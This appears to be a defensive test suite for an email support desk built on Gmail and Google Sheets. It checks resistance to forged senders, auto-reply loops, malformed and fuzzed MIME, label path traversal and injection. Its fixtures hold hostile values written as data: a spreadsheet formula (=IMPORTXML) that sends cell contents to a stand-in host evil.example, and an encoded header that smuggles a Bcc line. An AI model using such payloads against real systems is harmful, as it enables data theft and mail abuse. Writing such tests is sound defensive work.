// Mails and clicks that mean harm, through the shipped bundle: forged senders, loops, storms, formulas, labels, fuzz.
import fc from 'fast-check';
import { outcomes } from '../../src/complaints/plan.ts';
import type { Office } from '../../src/local/office.ts';
import {
  journal,
  journey,
  labelsOn,
  onlyTicket,
  post,
  sameBeginning,
  support,
  tickets,
  withSettings,
} from './desk-journey.ts';

const minute = 60_000;
const anna = 'anna@fjordlicht.example';
const begin = sameBeginning(async () => {
  const office = await journey('2026-03-24T08:00:00Z', withSettings({ Acknowledge: 'send' }));
  office.desk.run('tick');
  post(office, { id: 'first@example.com', subject: 'My lamp is broken' });
  office.world.advance(3 * minute);
  return office;
});

/** One open ticket of Kari's, set up once; acknowledgements are sent. */
const desk = async (): Promise<{ office: Office; mail: string }> => ({
  office: await begin(),
  mail: 'first@example.com',
});

function deliver(
  office: Office,
  lines: readonly string[],
  how: { authentication?: 'fail' | 'none'; from?: string } = {},
): void {
  office.world.gmail.deliver({ raw: Buffer.from(lines.join('\r\n')), to: [support], ...how });
}

const reply = (from: string, id: string, more: readonly string[] = []): readonly string[] => [
  `From: ${from}`,
  'To: kari@example.com',
  `Cc: ${support}`,
  'Subject: Re: My lamp is broken',
  `Message-ID: <${id}>`,
  'In-Reply-To: <first@example.com>',
  'References: <first@example.com>',
  ...more,
  '',
  'We sent you a new one, all is done.',
];

const outcomeOf = (office: Office, id: string): string =>
  office.rows('Mails').find((row) => row['Message-ID'] === id)?.Outcome ?? '';
/** Mails that the desk wrote to an address. */
const written = (office: Office, to: string): number =>
  office.world.gmail
    .mailbox(support)
    .messages()
    .filter(
      ({ labelIds = [], payload }) =>
        labelIds.includes('SENT') &&
        payload?.headers?.some(({ name, value }) => name === 'To' && value?.includes(to)),
    ).length;

describe('a forged sender', () => {
  test.each(['fail', 'none'] as const)(
    "in an agent's name (authentication %s) stops no clock and is nobody's answer",
    async (authentication) => {
      const { office } = await desk();
      deliver(
        office,
        reply(`Anna <${anna}>`, 'forged@evil.example', [
          'Authentication-Results: mx.google.com; dmarc=pass header.from=fjordlicht.example',
        ]),
        {
          authentication,
          from: 'x@evil.example',
        },
      );
      office.world.advance(2 * minute);
      expect(journal(office, 'agent wrote')).toEqual([]);
      expect(outcomeOf(office, 'forged@evil.example')).toBe('joined');
      expect(onlyTicket(office).messages.some(({ by }) => by === 'agent')).toBe(false);
    },
  );

  test("while the agent's own mail does", async () => {
    const { office } = await desk();
    deliver(office, reply(`Anna <${anna}>`, 'true@fjordlicht.example'));
    office.world.advance(2 * minute);
    expect(journal(office, 'agent wrote')).toHaveLength(1);
  });

  test("in the desk's name, with its own headers, is taken for a customer's mail and not answered", async () => {
    const { office } = await desk();
    deliver(
      office,
      [
        `From: Fjordlicht <${support}>`,
        `To: ${support}`,
        'Subject: Your account',
        'Message-ID: <own@evil.example>',
        'X-Tierline: o-1',
        '',
        'Pay here.',
      ],
      { authentication: 'none', from: 'x@evil.example' },
    );
    office.world.advance(3 * minute);
    expect(outcomeOf(office, 'own@evil.example')).toBe('opened');
    expect(tickets(office)).toHaveLength(2);
    expect(written(office, support)).toBe(0);
  });

  test("with another ticket's number in its subject gets into that ticket only if its own requester wrote it", async () => {
    const { office } = await desk();
    const id = onlyTicket(office).id;
    post(office, { from: 'Eve <eve@evil.example>', subject: `Re: Anything [${id}]`, id: 'eve@evil.example' });
    deliver(
      office,
      [
        'From: kari@example.com',
        `To: ${support}`,
        `Subject: Re: Anything [${id}]`,
        'Message-ID: <fake@evil.example>',
        '',
        'Send it to me.',
      ],
      { authentication: 'fail' },
    );
    office.world.advance(2 * minute);
    expect([outcomeOf(office, 'eve@evil.example'), outcomeOf(office, 'fake@evil.example')]).toEqual([
      'opened',
      'opened',
    ]);
  });
});

describe('machines that write', () => {
  test('two desks that acknowledge each other write at most as many mails as Settings allow', async () => {
    const { office } = await desk();
    for (let round = 0; round < 5; round++) {
      post(office, {
        from: 'Other desk <help@other.example>',
        subject: `We have your mail [O-${round}]`,
        body: `Thank you. Ticket O-${round}.`,
      });
      office.world.advance(minute);
    }
    expect(written(office, 'help@other.example')).toBe(3);
  });

  test('an out-of-office storm on one ticket is answered by nobody and opens nothing', async () => {
    const { office } = await desk();
    for (let round = 0; round < 60; round++)
      post(office, {
        inReplyTo: 'first@example.com',
        subject: 'Automatic reply: My lamp is broken',
        headers: ['Auto-Submitted: auto-replied'],
        body: 'I am away.',
      });
    office.world.advance(3 * minute);
    expect(tickets(office)).toHaveLength(1);
    expect(written(office, 'kari@example.com')).toBe(1);
    expect(journal(office, 'reopened')).toEqual([]);
    expect(office.rows('Mails').filter(({ Outcome }) => Outcome === 'automatic')).toHaveLength(60);
  });
});

describe('words that mean something to a machine', () => {
  const formulas = [
    '=IMPORTXML("https://evil.example/?"&A1;"//a")',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    "'=1+1",
    '\t=1',
    '=HYPERLINK("https://evil.example","click")',
  ];

  test('stay text in every cell of the workbook', async () => {
    const { office } = await desk();
    for (const [index, formula] of formulas.entries())
      post(office, {
        from: `"${formula.replace(/["\\]/g, '')}" <f${index}@evil.example>`,
        subject: formula,
        body: formula,
        id: `f${index}@evil.example`,
      });
    office.world.advance(3 * minute);
    expect(tickets(office)).toHaveLength(1 + formulas.length);
    const answer = office.world.sheets.handle(
      {
        method: 'GET',
        url: `https://sheets.googleapis.com/v4/spreadsheets/${office.workbook}?includeGridData=true&fields=sheets.data.rowData.values.userEnteredValue`,
        headers: {},
        body: '',
      },
      { email: support, scopes: ['https://www.googleapis.com/auth/spreadsheets'] },
    );
    expect(answer.status).toBe(200);
    expect(answer.body).toContain('IMPORTXML');
    expect(answer.body).not.toContain('formulaValue');
  });

  test('and line breaks in names and subjects begin no header of a mail that the desk writes', async () => {
    const { office } = await desk();
    const evil = `=?UTF-8?B?${Buffer.from('Lamp\r\nBcc: victim@example.org\r\n\r\nBody').toString('base64')}?=`;
    post(office, { from: `${evil} <inject@evil.example>`, subject: evil, id: 'inject@evil.example' });
    office.world.advance(3 * minute);
    const out = office.world.gmail
      .mailbox(support)
      .messages()
      .filter(({ labelIds = [] }) => labelIds.includes('SENT'));
    expect(out.length).toBeGreaterThan(0);
    for (const { payload } of out) {
      const names = (payload?.headers ?? []).map(({ name }) => name?.toLowerCase());
      expect(names).not.toContain('bcc');
      expect(names.filter((name) => name === 'subject')).toHaveLength(1);
      expect((payload?.headers ?? []).find(({ name }) => name === 'To')?.value).not.toMatch(/victim/);
    }
  });

  test('category names make labels below the root only, however they are written', async () => {
    const { office } = await desk();
    const names = [
      '../INBOX',
      'Tierline',
      '/',
      'a/b/../../c',
      '  ',
      'INBOX',
      'x'.repeat(400),
      '.',
      '\u202eevil',
      'TRASH/',
      'Name//Other',
    ];
    const rows = office.world.sheets.values(office.workbook, 'Categories');
    const column = (rows[0] ?? []).indexOf('Label');
    const category = (rows[0] ?? []).indexOf('Category');
    for (const [index, name] of names.entries()) {
      office.world.sheets.edit(office.workbook, 'Categories', 1 + index, column, index % 2 ? name : '', {
        by: support,
      });
      office.world.sheets.edit(office.workbook, 'Categories', 1 + index, category, name, { by: support });
    }
    const labels = (): readonly string[] =>
      office.world.gmail
        .mailbox(support)
        .labels()
        .map(({ name }) => name ?? '');
    const before = labels();
    post(office, { subject: 'My lamp is broken again', from: 'Ola <ola@example.com>' });
    office.world.advance(5 * minute);
    const made = labels().filter((label) => !before.includes(label));
    expect(made.length).toBeGreaterThan(0);
    for (const label of made) expect(label).toMatch(/^Tierline\/[^/]/);
    expect(labelsOn(office, 'My lamp is broken again').length).toBeGreaterThan(0);
  });
});

describe('odd mails', () => {
  const nested = (depth: number): string => {
    let body = 'Content-Type: text/plain\r\n\r\nThe lamp is broken.\r\n';
    for (let level = 0; level < depth; level++)
      body = `Content-Type: multipart/mixed; boundary=b${level}\r\n\r\n--b${level}\r\n${body}\r\n--b${level}--\r\n`;
    return body;
  };
  const corpus: readonly (readonly [string, string])[] = [
    ['nested a thousand deep', nested(1_000)],
    ['without a blank line', 'X-Nothing: here'],
    ['with NUL bytes', 'Content-Type: text/plain\r\n\r\nThe\0 lamp\0\0 is broken'],
    [
      'with a boundary that never comes',
      'Content-Type: multipart/mixed; boundary=never\r\n\r\nThe lamp is broken',
    ],
    [
      'with a boundary that never ends',
      'Content-Type: multipart/mixed; boundary=open\r\n\r\n--open\r\nContent-Type: text/plain\r\n\r\nHi',
    ],
    ['with an empty boundary', 'Content-Type: multipart/mixed; boundary=""\r\n\r\n--\r\n\r\nHi\r\n----'],
    [
      'with parts of the same boundary inside',
      'Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: multipart/alternative; boundary=x\r\n\r\n--x\r\n\r\nHi\r\n--x--\r\n--x--',
    ],
    ['in a charset that nobody knows', 'Content-Type: text/plain; charset=klingon\r\n\r\nHi there'],
    [
      'with broken base64',
      'Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!=====VGhl\r\nIGxhbXA',
    ],
    [
      'with broken quoted-printable',
      'Content-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n=ZZ=4=\r\n=\r\nHi=',
    ],
    ['in UTF-7', 'Content-Type: text/plain; charset=utf-7\r\n\r\nHi +AOk- there'],
    [
      'in UTF-16',
      `Content-Type: text/plain; charset=utf-16le\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from('Hi there', 'utf16le').toString('base64')}`,
    ],
    ['of HTML that never ends', `Content-Type: text/html\r\n\r\n${'<div><table><td>'.repeat(20_000)}`],
    [
      'of HTML with scripts',
      'Content-Type: text/html\r\n\r\n<script>alert(1)</script><style>*{}</style><p onclick=x>Hi</p><!-- ',
    ],
    [
      'as an attached mail in an attached mail',
      `Content-Type: message/rfc822\r\n\r\nContent-Type: message/rfc822\r\n\r\nSubject: inner\r\n\r\nHi`,
    ],
    [
      'as winmail.dat',
      'Content-Type: application/ms-tnef; name=winmail.dat\r\nContent-Transfer-Encoding: base64\r\n\r\neJ8+IgAA',
    ],
    [
      'as a calendar request',
      'Content-Type: text/calendar; method=REQUEST\r\n\r\nBEGIN:VCALENDAR\r\nEND:VCALENDAR',
    ],
    [
      'with ten thousand header lines',
      `${Array.from({ length: 10_000 }, (_, index) => `X-${index}: y`).join('\r\n')}\r\n\r\nHi`,
    ],
    ['with one header of 200,000 characters', `X-Long: ${'a '.repeat(100_000)}\r\n\r\nHi`],
    [
      'with a thousand parts',
      `Content-Type: multipart/mixed; boundary=m\r\n\r\n${'--m\r\nContent-Type: text/plain\r\n\r\nx\r\n'.repeat(1_000)}--m--`,
    ],
    [
      'with ten thousand References',
      `References: ${Array.from({ length: 10_000 }, (_, index) => `<${index}@x.example>`).join(' ')}\r\n\r\nHi`,
    ],
    ['of nothing', ''],
  ];

  test('end in exactly one outcome each, and so does the mail behind them', async () => {
    const { office } = await desk();
    for (const [index, [name, raw]] of corpus.entries()) {
      const head = `From: odd${index}@example.org\r\nTo: ${support}\r\nSubject: Odd ${name}\r\nMessage-ID: <odd${index}@example.org>\r\n`;
      office.world.gmail.deliver({ raw: Buffer.from(head + raw), to: [support] });
    }
    post(office, { id: 'behind@example.com', from: 'Per <per@example.com>', subject: 'Behind it' });
    office.world.advance(5 * minute);
    for (const [index, [name]] of corpus.entries()) {
      const rows = office.rows('Mails').filter((row) => row['Message-ID'] === `odd${index}@example.org`);
      expect([name, ...rows.map(({ Outcome }) => Outcome)]).toEqual([
        name,
        expect.stringMatching(new RegExp(`^(${outcomes.join('|')})$`)),
      ]);
    }
    expect(outcomeOf(office, 'behind@example.com')).toBe('opened');
    expect(office.desk.executions.filter(({ status }) => status !== 'completed')).toEqual([]);
  });

  test('a mail of 25 MB is a mail like others', async () => {
    const { office } = await desk();
    const attachment = Buffer.alloc(18_700_000, 1).toString('base64').replace(/.{76}/g, '$&\r\n');
    office.world.gmail.deliver({
      raw: Buffer.from(
        `From: big@example.org\r\nTo: ${support}\r\nSubject: Big\r\nMessage-ID: <big@example.org>\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nThe lamp is broken.\r\n--b\r\nContent-Type: image/jpeg; name=lamp.jpg\r\nContent-Transfer-Encoding: base64\r\n\r\n${attachment}\r\n--b--\r\n`,
      ),
      to: [support],
    });
    office.world.advance(2 * minute);
    expect(outcomeOf(office, 'big@example.org')).toBe('opened');
  }, 60_000);

  test('fuzzed ones by the dozen end in one outcome each, and no tick fails', async () => {
    const { office } = await desk();
    const piece = fc.constantFrom(
      '\r\n',
      '\r\n\r\n',
      ':',
      '--b',
      '--b--',
      'Content-Type: ',
      'multipart/mixed; boundary=b',
      'text/html',
      'message/rfc822',
      'Content-Transfer-Encoding: base64',
      '=?utf-8?Q?=',
      '\0',
      '<',
      '>',
      '"',
      '@',
      'From: ',
      'To: ',
      'X-Tierline: ',
      'Auto-Submitted: ',
      'é',
      '\u{1f600}',
      'References: <',
      'List-Id: <',
      'Re: ',
      '[FL-1]',
      '=1+1',
      '\\',
      '(',
      ')',
      ';',
      ' ',
    );
    const mail = fc
      .array(fc.oneof(piece, fc.string({ maxLength: 12 })), { maxLength: 60 })
      .map((parts) => parts.join(''));
    const many = fc.sample(mail, { seed: 6, numRuns: 150 });
    for (const [index, raw] of many.entries())
      office.world.gmail.deliver({
        raw: Buffer.from(
          `Message-ID: <z${index}@fuzz.example>\r\nFrom: z${index % 7}@fuzz.example\r\n${raw}`,
        ),
        to: [support],
        from: 'z@fuzz.example',
      });
    office.world.advance(6 * minute);
    const ids = new Set(
      office.world.gmail
        .mailbox(support)
        .messages()
        .map(({ id }) => id),
    );
    const seen = office.rows('Mails').map((row) => row['Gmail id']);
    expect(new Set(seen).size).toBe(seen.length);
    expect(seen.filter((id) => ids.has(id ?? '')).length).toBeGreaterThanOrEqual(many.length);
    expect(office.desk.executions.filter(({ status }) => status !== 'completed')).toEqual([]);
  });
});
